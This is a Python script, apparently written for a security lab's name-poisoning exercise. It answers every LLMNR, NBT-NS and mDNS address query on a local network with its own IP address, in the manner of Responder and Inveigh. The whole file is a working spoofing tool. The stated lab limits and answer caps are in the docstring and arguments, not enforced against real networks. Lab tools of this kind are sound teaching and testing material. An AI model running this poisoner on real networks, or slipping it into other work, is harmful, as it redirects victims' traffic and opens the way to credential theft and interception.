#!/usr/bin/env python3
"""
A name-resolution poisoner for the lab's name-poisoning scenario: answers
every LLMNR (UDP 5355, group 224.0.0.252), NBT-NS (UDP 137, broadcast) and
mDNS (UDP 5353, group 224.0.0.251) query for an address record with its own
address, as Responder and Inveigh do. Nothing here captures or relays
credentials; it only answers.

usage: name-poisoner.py OWN_IPV4 MAX_ANSWERS SECONDS
Runs inside a lab namespace; stops after MAX_ANSWERS answers or SECONDS.
"""
import select
import socket
import struct
import sys
import time

OWN = sys.argv[1]
MAX_ANSWERS = int(sys.argv[2])
SECONDS = float(sys.argv[3])

LLMNR_GROUP, LLMNR_PORT = '224.0.0.252', 5355
MDNS_GROUP, MDNS_PORT = '224.0.0.251', 5353
NBNS_PORT = 137
TYPE_A, TYPE_NB, CLASS_IN = 1, 0x20, 1


def qname_end(msg, off):
    """Offset just past the (uncompressed) name at `off`."""
    while msg[off] != 0:
        off += 1 + msg[off]
    return off + 1


def labels(msg, off):
    out = []
    while msg[off] != 0:
        out.append(msg[off + 1:off + 1 + msg[off]].decode('ascii', 'replace'))
        off += 1 + msg[off]
    return out


def udp_socket(port, group=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(('0.0.0.0', port))
    if group is not None:
        mreq = struct.pack('4s4s', socket.inet_aton(group), socket.inet_aton(OWN))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(OWN))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def question(msg):
    """(id, flags, name end offset, qtype, qclass) of a one-question query, or None."""
    if len(msg) < 12:
        return None
    tid, flags, qd = struct.unpack('>HHH', msg[:6])
    if flags & 0x8000 or qd != 1:
        return None
    end = qname_end(msg, 12)
    qtype, qclass = struct.unpack('>HH', msg[end:end + 4])
    return tid, flags, end, qtype, qclass


def llmnr_answer(msg):
    q = question(msg)
    if q is None or q[3] != TYPE_A:
        return None
    tid, _, end, _, _ = q
    qsection = msg[12:end + 4]
    rr = b'\xc0\x0c' + struct.pack('>HHIH', TYPE_A, CLASS_IN, 30, 4) + socket.inet_aton(OWN)
    return struct.pack('>HHHHHH', tid, 0x8000, 1, 1, 0, 0) + qsection + rr


def mdns_answer(msg):
    q = question(msg)
    if q is None or q[3] != TYPE_A:
        return None
    _, _, end, _, _ = q
    name = msg[12:end]
    if labels(msg, 12)[-1:] != ['local']:
        return None
    rr = name + struct.pack('>HHIH', TYPE_A, 0x8001, 120, 4) + socket.inet_aton(OWN)
    return struct.pack('>HHHHHH', 0, 0x8400, 0, 1, 0, 0) + rr


def nbns_answer(msg):
    q = question(msg)
    if q is None or q[3] != TYPE_NB or (q[1] >> 11) & 0xF != 0:
        return None
    tid, _, end, _, _ = q
    name = msg[12:end]
    rdata = struct.pack('>H', 0) + socket.inet_aton(OWN)
    rr = name + struct.pack('>HHIH', TYPE_NB, CLASS_IN, 165, len(rdata)) + rdata
    return struct.pack('>HHHHHH', tid, 0x8500, 0, 1, 0, 0) + rr


def main():
    llmnr = udp_socket(LLMNR_PORT, LLMNR_GROUP)
    mdns = udp_socket(MDNS_PORT, MDNS_GROUP)
    nbns = udp_socket(NBNS_PORT)
    answers = 0
    stop = time.monotonic() + SECONDS
    print('answering as', OWN, flush=True)
    while answers < MAX_ANSWERS and time.monotonic() < stop:
        ready, _, _ = select.select([llmnr, mdns, nbns], [], [], 0.2)
        for s in ready:
            msg, peer = s.recvfrom(2048)
            if peer[0] == OWN:
                continue
            try:
                if s is llmnr:
                    out, dest = llmnr_answer(msg), peer
                elif s is mdns:
                    # A one-shot query from another port gets a unicast answer (RFC 6762 5.1); others go to the group.
                    out, dest = mdns_answer(msg), (peer if peer[1] != MDNS_PORT else (MDNS_GROUP, MDNS_PORT))
                else:
                    out, dest = nbns_answer(msg), peer
            except (IndexError, struct.error):
                continue
            if out is None:
                continue
            s.sendto(out, dest)
            answers += 1
            print('answered', peer[0], 'on', s.getsockname()[1], flush=True)
    for s in (llmnr, mdns, nbns):
        s.close()


if __name__ == '__main__':
    main()
